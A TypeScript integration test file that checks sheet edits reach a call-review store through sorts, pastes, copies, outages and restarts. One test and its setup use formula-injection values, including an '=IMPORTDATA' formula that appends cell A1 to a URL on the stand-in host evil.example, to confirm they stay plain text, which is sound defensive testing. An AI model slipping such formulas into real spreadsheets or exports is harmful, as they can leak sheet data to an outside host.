import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallDetail } from '../../../functions/contracts/api.ts';
import { LOCAL_ADMIN } from '../../../infra/local/service.ts';
import { ask, tokenFor } from './person.ts';
import { callIdOfFile, putCall, SCRIPT_YAML, SERVICE } from './recordings.ts';
import { cli, cliJson, eventually, removeFolder, type Server, startServer, temporaryFolder } from './server.ts';
import { openHands, type People, type SheetHands, storedPeople } from './sheet-hands.ts';

const TEAM = 'team_orders';
const CALLS = 8;
/** What people mean by "at once" for a cell that they typed. */
const SECONDS_MS = 20_000;

type Counters = { readonly reads: number; readonly writes: number; readonly refused: number };

describe('what people type in the sheet, with no browser open', () => {
  let root = '';
  let server: Server;
  let hands: SheetHands;
  const ids: string[] = [];
  const id = (index: number): string => ids[index] ?? '';

  const reaches = (expected: ReadonlyMap<string, Partial<People>>, what: string, withinMs = SECONDS_MS) =>
    eventually(
      async () => {
        const stored = await storedPeople(server, TEAM);
        for (const [callId, people] of expected) expect(stored.get(callId)).toMatchObject(people);
        return stored;
      },
      { withinMs, what },
    );
  const counters = () => hands.steer('GET', 'counters') as Promise<Counters>;
  /** Until nothing was asked of the sheet for a while: whatever was under way has ended. */
  const calm = async (): Promise<void> => {
    let last = '';
    for (let quiet = 0; quiet < 12; quiet += 1) {
      const now = JSON.stringify(await counters());
      if (now !== last) quiet = 0;
      last = now;
      await pause(250);
    }
  };

  beforeAll(async () => {
    root = await temporaryFolder();
    server = await startServer(join(root, 'data'), '--model', 'tiny');
    await writeFile(join(root, 'script.yaml'), SCRIPT_YAML);
    await writeFile(
      join(root, 'team.yaml'),
      `id: ${TEAM}\nname: Orders\nlocale: en\ntimeZone: UTC\nservices: [${SERVICE}]\nmembers: []\n`,
    );
    await mkdir(join(root, 'drop'));
    const rows: string[] = [];
    for (let index = 0; index < CALLS; index += 1) {
      ids.push(await callIdOfFile(await putCall(join(root, 'drop'), `call-${index}.wav`, index + 1)));
      const name = index === 0 ? `"=HYPERLINK(""http://evil.example"")"` : `Agent ${index}`;
      rows.push(`call-${index}.wav,2026-11-1${index}T10:00:00Z,10${index},${name},${SERVICE}`);
    }
    await writeFile(join(root, 'drop/calls.csv'), ['file,started_at,agent_id,agent_name,service', ...rows].join('\n'));
    expect((await cli(server, 'teams', 'apply', join(root, 'team.yaml'))).code).toBe(0);
    expect((await cli(server, 'scripts', 'publish', join(root, 'script.yaml'))).code).toBe(0);
    expect((await cli(server, 'ingest', join(root, 'drop'), '--wait', '--timeout', '2')).code).toBe(0);
    hands = await openHands(server, TEAM);
    await eventually(async () => ((await hands.rows()).length === CALLS ? true : undefined), {
      withinMs: 60_000,
      what: 'all rows',
    });
    await calm();
  });
  afterAll(async () => {
    await server?.kill();
    await removeFolder(root);
  });

  it('reaches the store within seconds', async () => {
    const startedMs = Date.now();
    await hands.type('Reviewed', new Map([[id(1), true]]));
    await hands.type('Note', new Map([[id(1), 'Ótimo atendimento — «muy amable» 👍']]));
    await reaches(new Map([[id(1), { reviewed: true, note: 'Ótimo atendimento — «muy amable» 👍' }]]), 'tick and note');
    console.info(`a tick and a note reached the store after ${Date.now() - startedMs} ms`);
    const [detail] = await cliJson<CallDetail>(server, 'calls', 'show', id(1));
    expect(detail?.call.people).toEqual({ reviewed: true, note: 'Ótimo atendimento — «muy amable» 👍' });
  });

  it('stays text when it looks like a formula, whoever wrote it', async () => {
    const note = '=IMPORTDATA("http://evil.example/"&A1)';
    await hands.type('Note', new Map([[id(0), note]]));
    await reaches(new Map([[id(0), { note }]]), 'the note');
    await calm();
    expect(await hands.stored(id(0), 'Note')).toEqual({ stringValue: note });
    expect(await hands.stored(id(0), 'Agent')).toEqual({ stringValue: '=HYPERLINK("http://evil.example")' });
  });

  it('follows its call through a sort, an insert and a deleted empty row', async () => {
    await hands.type('Note', new Map([[id(2), 'before the sort']]));
    await hands.sort('Agent', 'DESCENDING');
    await hands.type('Note', new Map([[id(3), 'after the sort']]));
    await hands.insertRows(2);
    await hands.type('Reviewed', new Map([[id(4), true]]));
    await hands.deleteRow(1);
    await hands.type('Note', new Map([[id(5), 'after the insert']]));
    await reaches(
      new Map<string, Partial<People>>([
        [id(0), { reviewed: false }],
        [id(1), { reviewed: true, note: 'Ótimo atendimento — «muy amable» 👍' }],
        [id(2), { reviewed: false, note: 'before the sort' }],
        [id(3), { reviewed: false, note: 'after the sort' }],
        [id(4), { reviewed: true, note: '' }],
        [id(5), { reviewed: false, note: 'after the insert' }],
      ]),
      'every edit at its own call',
    );
  });

  it('is not confused by a copy of a row: the call stays one, and the copy says what it is', async () => {
    await hands.duplicate(id(2));
    const rows = await eventually(
      async () => {
        const found = await hands.rows();
        return found.length === CALLS + 1 && found.some(({ Conflict = '' }) => Conflict !== '') ? found : undefined;
      },
      { withinMs: SECONDS_MS, what: 'the copy is marked' },
    );
    expect(rows.filter(({ Key }) => Key === id(2)).length).toBeLessThanOrEqual(2);
    expect((await storedPeople(server, TEAM)).size).toBe(CALLS);
    await reaches(new Map([[id(2), { note: 'before the sort' }]]), 'the note of the copied call');
    const copy = rows.findIndex(({ Conflict = '' }) => Conflict !== '');
    expect(copy).toBeGreaterThanOrEqual(0);
  });

  it('survives a paste and a sort in the middle of a sync', async () => {
    await calm();
    // Every request of the next sync takes its time, and a person is quicker.
    await hands.steer('POST', 'faults', {
      faults: [{ operation: '*', times: 14, outcome: { kind: 'delay', ms: 400 } }],
    });
    const token = await tokenFor(server, LOCAL_ADMIN);
    expect((await ask(server, 'POST', `/workbooks/${TEAM}/sync`, { token })).status).toBe(200);
    await hands.type('Note', new Map([4, 5, 6].map((index) => [id(index), `pasted at ${index}`] as const)));
    await hands.sort('Call date', 'ASCENDING');
    await hands.type('Note', new Map([[id(7), 'typed after the second sort']]));
    await hands.steer('DELETE', 'faults');
    await reaches(
      new Map<string, Partial<People>>([
        [id(1), { reviewed: true, note: 'Ótimo atendimento — «muy amable» 👍' }],
        [id(2), { note: 'before the sort' }],
        [id(3), { note: 'after the sort' }],
        [id(4), { reviewed: true, note: 'pasted at 4' }],
        [id(5), { note: 'pasted at 5' }],
        [id(6), { note: 'pasted at 6' }],
        [id(7), { note: 'typed after the second sort' }],
      ]),
      'the paste',
      40_000,
    );
    await calm();
    const rows = await hands.rows();
    for (const [index, callId] of ids.entries()) {
      const [row] = rows.filter(({ Key }) => Key === callId);
      expect(row).toMatchObject({
        Service: SERVICE,
        State: 'Ready',
        'Call date': expect.stringContaining(`1${index}`),
      });
    }
  });

  it('costs no write when nothing is new', async () => {
    await calm();
    const before = await counters();
    const token = await tokenFor(server, LOCAL_ADMIN);
    expect((await ask(server, 'POST', `/workbooks/${TEAM}/sync`, { token })).status).toBe(200);
    await eventually(async () => ((await counters()).reads > before.reads ? true : undefined), {
      withinMs: SECONDS_MS,
      what: 'a sync that reads',
    });
    await calm();
    const after = await counters();
    console.info(
      `a sync with nothing new: ${after.reads - before.reads} reads, ${after.writes - before.writes} writes`,
    );
    expect(after.writes).toBe(before.writes);
  });

  it('comes through when Google fails for a while', async () => {
    await hands.type('Note', new Map([[id(6), 'typed during an outage']]));
    await hands.steer('POST', 'faults', {
      faults: [
        { operation: '*', times: 1, outcome: { kind: 'error', code: 503 } },
        { operation: '*', times: 1, outcome: { kind: 'error', code: 429 } },
        { operation: '*', times: 1, outcome: { kind: 'lost-response' } },
      ],
    });
    await reaches(new Map([[id(6), { note: 'typed during an outage' }]]), 'the note', 60_000);
    expect(await hands.steer('GET', 'faults')).toEqual({ pending: [] });
  });

  it('is read after a kill, although nobody was told of it', async () => {
    await hands.type('Note', new Map([[id(7), 'typed just before the kill']]));
    await server.kill();
    server = await startServer(join(root, 'data'), '--model', 'tiny');
    hands = await openHands(server, TEAM);
    await reaches(new Map([[id(7), { note: 'typed just before the kill' }]]), 'the note', 60_000);
    expect((await hands.rows()).find(({ Key }) => Key === id(7))?.Note).toBe('typed just before the kill');
  });
});
